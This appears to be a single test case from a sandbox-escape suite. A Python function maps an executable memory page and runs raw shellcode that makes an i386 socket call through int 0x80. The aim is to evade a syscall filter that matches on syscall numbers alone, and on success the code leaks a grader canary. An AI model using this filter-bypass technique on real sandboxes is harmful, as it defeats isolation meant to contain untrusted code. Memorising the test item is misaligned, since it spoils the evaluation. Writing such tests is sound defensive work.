"""Runs machine code of its own: int 0x80, where the numbers are those of i386 and a filter by number
alone would let 4 (stat of x86-64, write of i386) pass.
"""
# row: own
# layer: S
# kernel: needed
# outcome: crashed, failed


def attack():
    if borrow("platform").machine() != "x86_64":
        return
    ctypes = borrow("ctypes")
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
    # push rbx; eax = 359 (socket of i386); ebx = ecx = 1; edx = 0; int 0x80; pop rbx; ret
    code_bytes = bytes.fromhex("53b867010000bb01000000b90100000031d2cd805bc3")
    ctypes.memmove(page, code_bytes, len(code_bytes))
    run = ctypes.CFUNCTYPE(ctypes.c_int)(page)
    loot("about to run")
    result = run()
    if result >= 0 or result not in (-1, -13, -38):
        loot(GRADER["kernel_canary"])
    loot(result)
